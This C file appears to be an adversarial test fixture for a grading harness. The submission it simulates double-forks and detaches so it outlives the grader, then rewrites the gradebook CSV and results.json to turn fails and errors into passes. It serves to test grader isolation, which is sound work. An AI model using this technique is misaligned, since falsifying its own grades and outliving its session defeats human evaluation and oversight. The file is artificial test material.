/* Outliving the grade: double fork and setsid (out of the plugin's process
 * group, away from its parent's death signal), named as an attack; waits
 * for the grader to exit (its pid and the gradebook's paths taken from
 * /proc/PID/cmdline and /proc/PID/cwd while it runs), then 1.5 s, then
 * rewrites the CSV and results.json: every "fail" and "error" becomes
 * "pass". It then stays until 120 s after the grader exited, so the test
 * can see it alive. The gradebook must not change after grade exits, and nothing of
 * the submission may outlive its grade. */
#define EVIL_FAMILY "daemon"
#define EVIL_EXPENSIVE
#include "evil.h"

/* Replace every `from` by `to` in the file at path (a real file of this
 * test run: never through a link). */
static int rewrite(const char *path, const char *const *from, const char *const *to, int n)
{
    static char in[1 << 20], out[1 << 21];
    char want[32];
    snprintf(want, sizeof want, "/swrun-%.6s-", EVIL_TOKEN);
    if (!path[0] || !strstr(path, want))
        return 0;
    long len = evil_read_file(path, in, sizeof in);
    if (len <= 0)
        return 0;
    size_t o = 0;
    for (long i = 0; i < len && o + 64 < sizeof out;) {
        int hit = 0;
        for (int k = 0; k < n; k++) {
            size_t fl = strlen(from[k]);
            if (strncmp(in + i, from[k], fl) == 0) {
                memcpy(out + o, to[k], strlen(to[k]));
                o += strlen(to[k]);
                i += (long)fl;
                hit = 1;
                break;
            }
        }
        if (!hit)
            out[o++] = in[i++];
    }
    return evil_write_file(path, out, o, O_TRUNC) == 0;
}

static void haunt(void)
{
    evil_name();
    for (int fd = 0; fd < 1024; fd++)
        close(fd);
    double start = evil_now();
    static evil_grader g;
    if (evil_grader_info(&g) != 0)
        _exit(0);
    while (evil_now() - start < 120 && (kill(g.pid, 0) == 0 || errno != ESRCH))
        evil_sleep(0.05);
    evil_sleep(1.5);
    static const char *const csv_from[] = { ",fail,", ",error," };
    static const char *const csv_to[] = { ",pass,", ",pass," };
    static const char *const json_from[] = { "\"failed\"", "\"score\": 0," };
    static const char *const json_to[] = { "\"passed\"", "\"score\": 1," };
    int done = rewrite(g.csv, csv_from, csv_to, 2) + rewrite(g.results, json_from, json_to, 2);
    if (done)
        evil_mark("rewrote", NULL);
    evil_linger(g.pid);
}

static void evil_attack(void)
{
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() == 0)
            haunt();
        _exit(0);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}
